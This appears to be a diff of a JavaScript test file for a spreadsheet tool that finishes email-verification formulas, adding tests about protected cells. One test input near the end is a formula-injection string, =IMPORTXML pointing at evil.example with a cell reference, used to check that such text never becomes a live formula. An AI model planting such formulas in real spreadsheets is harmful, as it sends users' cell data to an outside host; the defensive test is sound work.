@@ -320,8 +320,19 @@ describe("Finish formulas", () => {
     const told = finish(sheet);
     expect(sheet.shown().map((row) => row[1])).toEqual(["not finished", "x", "VALID"]);
     expect(sheet.formulaAt(1, 2)).toBe("=VERIFY_EMAIL(A1)");
-    expect(told[told.length - 1]).toMatch(/^Finished 1 cell\. 1 left/);
+    expect(told[told.length - 1]).toBe("Finished 1 cell. 1 protected, or refused by Google: B1.");
   });
+
+  test.each(["#ERROR!", "not finished", "not finished: the limit of credits a day"])(
+    "says that a formula is protected, whatever it shows, as %j",
+    (shown) => {
+      const sheet = createFakeSheet(() => [[shown], [shown]]);
+      sheet.type(1, 2, [["=VERIFY_EMAIL(A1:A2)"]]);
+      protectFirstRow(sheet);
+      const told = finish(sheet);
+      expect(told[told.length - 1]).toBe("Finished 0 cells. 1 protected, or refused by Google: B1.");
+    },
+  );
 
   test.each(['not finished: =IMPORTXML("https://evil.example",A1)', 'not finished: =VERIFY_EMAIL("ann@acme.example")'])(
     "makes no formula of the text %j, wherever it stands",
